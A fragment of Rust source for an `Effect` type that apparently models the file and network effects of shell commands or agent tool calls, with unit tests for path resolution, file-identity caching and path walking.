            Effect::Query { .. }
            | Effect::Send { .. }
            | Effect::Fetch { .. }
            | Effect::Signal { .. }
            | Effect::StartAgent { .. }
            | Effect::Destroy { .. }
            | Effect::Pay { .. }
            | Effect::Publish { .. } => {}
        }
    }};
}

impl Effect {
    /// The filesystem paths the effect names (not what a send carries).
    pub fn paths(&self) -> Vec<&PathBuf> {
        let mut out = Vec::new();
        each_path!(self, |p| out.push(p));
        out
    }

    /// Applies `f` to every filesystem path the effect names, as `paths` lists them.
    pub fn paths_mut(&mut self, mut f: impl FnMut(&mut PathBuf)) {
        each_path!(self, f);
    }

    /// The path the effect changes, if it changes one (writes, creates, deletes of a target
    /// known statically, move targets and sources, links, mode changes), with a word saying how.
    pub fn changed_path(&self) -> Option<(&PathBuf, &str)> {
        match self {
            Effect::Write { path, how, .. } => Some((path, how)),
            Effect::Create { path } => Some((path, "create")),
            Effect::Delete { target, .. } => target.path().map(|p| (p, "delete")),
            Effect::Move { to, .. } => Some((to, "move")),
            Effect::Link { link, .. } => Some((link, "link")),
            Effect::Chmod { path, how, .. } => Some((path, how)),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A `cd` to the top of the work tree lands where git's is: the nearest directory up with
    /// a `.git` (a directory, or a worktree's file) on disk; not known outside any; the
    /// project root in a lexical world.
    #[test]
    fn the_top_of_the_work_tree_is_where_git_has_it() {
        let dir = tempfile::tempdir().unwrap();
        let top = dir.path().join("repo");
        let deep = top.join("a/b");
        std::fs::create_dir_all(&deep).unwrap();
        let scope = |cwd: &Path, files: FileView| Scope {
            paths: crate::paths::PathResolver {
                cwd: cwd.into(),
                home: "/home/dev".into(),
                follow_symlinks: false,
            },
            project_root: "/home/dev/project".into(),
            roots: Vec::new(),
            protected: Default::default(),
            files,
            lines: Default::default(),
        };
        let marker = crate::shell::GIT_TOPLEVEL;
        // No work tree anywhere up from it: not known (unless the temporary folder is itself
        // inside one).
        if !dir.path().ancestors().any(|d| d.join(".git").exists()) {
            assert_eq!(
                scope(&deep, FileView::disk()).resolve(&format!("{marker}/build")),
                PathBuf::from(format!("/(cd {marker}/build)"))
            );
        }
        std::fs::create_dir(top.join(".git")).unwrap();
        assert_eq!(
            scope(&deep, FileView::disk()).resolve(&format!("{marker}/build")),
            top.join("build")
        );
        std::fs::write(deep.join(".git"), "gitdir: /elsewhere\n").unwrap();
        assert_eq!(scope(&deep, FileView::disk()).resolve(marker), deep);
        assert_eq!(
            scope(&deep, FileView::lexical()).resolve(&format!("{marker}/x")),
            PathBuf::from("/home/dev/project/x")
        );
        // Only the whole name: a longer one is a path like any other.
        assert_eq!(
            scope(&deep, FileView::lexical()).resolve(&format!("{marker}x")),
            deep.join(format!("{marker}x"))
        );
    }

    /// A disk view looks each path up once: a second question is answered from what it saw,
    /// even after the file changed (a scope lives for one call); a new view looks again.
    #[test]
    fn a_disk_view_looks_each_identity_up_once() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("f");
        let missing = dir.path().join("m");
        std::fs::write(&file, "x").unwrap();
        let view = FileView::disk();
        let first = view.identity(&file).expect("the file is there");
        assert_eq!(view.identity(&missing), None);
        std::fs::hard_link(&file, dir.path().join("g")).unwrap();
        std::fs::write(&missing, "y").unwrap();
        assert_eq!(view.identity(&file), Some(first), "looked up again");
        assert_eq!(view.identity(&missing), None, "looked up again");
        let fresh = FileView::disk();
        assert_eq!(fresh.identity(&file).map(|f| f.links), Some(2));
        assert!(fresh.identity(&missing).is_some());
        // A fixed view has no identities and lists no directory.
        assert_eq!(FileView::lexical().identity(&file), None);
        assert_eq!(FileView::lexical().names(dir.path()), None);
    }

    /// `paths` and `paths_mut` walk the same paths in the same order for every variant that
    /// names one (they share one match), and none for those that name none.
    #[test]
    fn paths_and_paths_mut_agree() {
        let p = |s: &str| PathBuf::from(s);
        let effects = vec![
            Effect::Read {
                path: p("/r"),
                by: None,
            },
            Effect::List { path: p("/l") },
            Effect::Write {
                path: p("/w"),
                content: None,
                how: "Write".into(),
                shell: None,
            },
            Effect::Create { path: p("/c") },
            Effect::Delete {
                target: DeleteTarget::Named {
                    written: "d".into(),
                    path: Some(p("/d")),
                    span: Span::Exact,
                },
                recursive: false,
                how: "rm".into(),
                names: Vec::new(),
            },
            Effect::Delete {
                target: DeleteTarget::Stdin {
                    listed: vec![("a".into(), Some(p("/a"))), ("$X".into(), None)],
                },
                recursive: false,
                how: "rm".into(),
                names: Vec::new(),
            },
            Effect::Move {
                from: p("/from"),
                to: p("/to"),
                span: Span::Exact,
                glob: None,
            },
            Effect::Link {
                link: p("/link"),
                target: p("/target"),
                symbolic: true,
            },
            Effect::Chmod {
                path: p("/m"),
                how: "chmod".into(),
                recursive: false,
            },
            Effect::Execute {
                program: "sh".into(),
                path: Some(p("/x.sh")),
                language: None,
                run: None,
            },
            Effect::Configure {
                what: "git config a b".into(),
                adds: Some((p("/cfg"), "b".into())),
                remote: None,
                setting: None,
            },
            Effect::Serve {
                root: p("/srv"),
                program: "php".into(),
            },
            Effect::Fetch {
                url: "https://x.example/".into(),
                host: None,
            },
            Effect::Signal { target: "1".into() },
            Effect::Destroy {
                what: "project".into(),
                tool: "mcp__x__delete_project".into(),
            },
        ];
        let mut listed = Vec::new();
        let mut walked = Vec::new();
        for mut e in effects {
            listed.extend(e.paths().into_iter().cloned());
            e.paths_mut(|path| {
                walked.push(path.clone());
                *path = path.join("moved");
            });
            assert!(e.paths().iter().all(|q| q.ends_with("moved")), "{e:?}");
        }
        assert_eq!(listed, walked);
        let names: Vec<&str> = listed.iter().filter_map(|q| q.to_str()).collect();
        assert_eq!(
            names,
            [
                "/r", "/l", "/w", "/c", "/d", "/a", "/from", "/to", "/link", "/target", "/m",
                "/x.sh", "/cfg", "/srv"
            ]
        );
    }
}
